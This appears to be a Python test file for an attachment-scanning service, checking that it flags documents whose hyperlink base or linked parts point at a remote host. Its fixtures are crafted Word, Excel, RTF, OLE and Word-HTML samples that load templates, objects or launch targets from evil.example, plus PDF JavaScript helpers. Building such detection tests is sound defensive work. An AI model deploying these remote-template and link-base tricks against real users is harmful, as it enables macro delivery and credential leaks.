"""Links that start a program, and content that is loaded, in places where the service did not look."""

from __future__ import annotations

import pytest

from bridge.service.analysis.inspection import inspect
from bridge.service.analysis.limits import Limits
from tests.service.service_kit import attached, mail, zipped
from tests.service.test_service_documents import ole

BASE = rb"\\evil.example\share"
PROPERTIES = b"<Properties><HyperlinkBase>%b</HyperlinkBase></Properties>"
CALENDAR = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n%b\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
ALARM = b"BEGIN:VALARM\r\n%b\r\nEND:VALARM"
CARD = b"BEGIN:VCARD\r\nVERSION:3.0\r\n%b\r\nEND:VCARD\r\n"
XSL = b'xmlns:x="http://www.w3.org/1999/XSL/Transform"'
PAGE = (
    b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><d><x:stylesheet id="s" %b>%b</x:stylesheet></d>'
)


def found(content: bytes) -> tuple[set[str], set[str]]:
    result = inspect(content, Limits())
    return {tag for tag in result.tags if not tag.startswith("header:")}, result.hosts


def properties(base: bytes, name: str = "a.docx") -> bytes:
    return attached(zipped(("docProps/app.xml", PROPERTIES % base)), name)


def invited(line: bytes) -> bytes:
    return mail(CALENDAR % line, Content_Type="text/calendar")


def card(line: bytes) -> bytes:
    return attached(CARD % line, "a.vcf", "text/vcard")


def scripted(source: bytes) -> bytes:
    escaped = source.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    return document(b"<</S/JavaScript/JS (" + escaped + b")>>")


def document(action: bytes, *others: bytes) -> bytes:
    content = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction " + action + b">>endobj\n"
    return attached(content + b"".join(others) + b"trailer<</Root 1 0 R>>\n%%EOF\n", "a.pdf")


BASES = {
    "Word": properties(BASE),
    "Excel": properties(b"file://evil.example/share/", "a.xlsx"),
    "a CDATA section": properties(b"<![CDATA[" + BASE + b"]]>"),
    "RTF": attached(rb"{\rtf1{\info{\hlinkbase \\\\evil.example\\share}}x}", "a.rtf"),
    "a page of Word": attached(
        b"<html><xml><o:DocumentProperties><o:HyperlinkBase>" + BASE + b"</o:HyperlinkBase></o:DocumentProperties>",
        "a.doc",
    ),
    "an old document": attached(
        ole({"\x05DocumentSummaryInformation": "_PID_HLINKBASE\0\\\\evil.example\\share\0".encode("utf-16-le")}),
        "a.doc",
    ),
}


@pytest.mark.parametrize("content", BASES.values(), ids=BASES)
def test_the_base_of_all_links_of_a_document_was_not_read(content: bytes) -> None:
    """Word opens base and target as one address: the target alone is a name without a folder."""
    assert "office:launch" in found(content)[0]


@pytest.mark.parametrize("base", [b"https://intranet.example/", rb"\\server\share", rb"C:\Documents", b""])
def test_an_ordinary_base_has_no_tag(base: bytes) -> None:
    assert "office:launch" not in found(properties(base))[0]


@pytest.mark.parametrize(
    ("head", "tag"),
    [
        (b'<link rel=Edit-Time-Data href="http://evil.example/editdata.mso">', "office:remote-template"),
        (b"<LINK HREF='file://evil.example/s/o.mso' REL=OLE-Object-Data>", "office:remote-object"),
        (b'<link rel="Main-File" href="\\\\evil.example\\x.htm">', "office:remote-object"),
        (b'<link rel=File-List href="&#104;ttp://evil.example/filelist.xml">', "office:remote-object"),
        (
            b'<base href="http://evil.example/a/"><link rel=Edit-Time-Data href="editdata.mso">',
            "office:remote-template",
        ),
    ],
)
def test_parts_of_a_word_page_that_are_elsewhere_had_no_tag(head: bytes, tag: str) -> None:
    """The first has the macros."""
    assert tag in found(attached(b"<html><head>" + head + b"</head>x</html>", "a.doc"))[0]


@pytest.mark.parametrize(
    "href", [b"cid:filelist.xml@01D0", b"a_files/editdata.mso", b"file:///C:/a_files/editdata.mso", rb"\\server\a.mso"]
)
def test_parts_beside_a_word_page_have_no_tag(href: bytes) -> None:
    page = b'<html><head><link rel=Edit-Time-Data href="' + href + b'"></head>x</html>'
    assert not {tag for tag in found(attached(page, "a.doc"))[0] if tag.startswith("office:")}
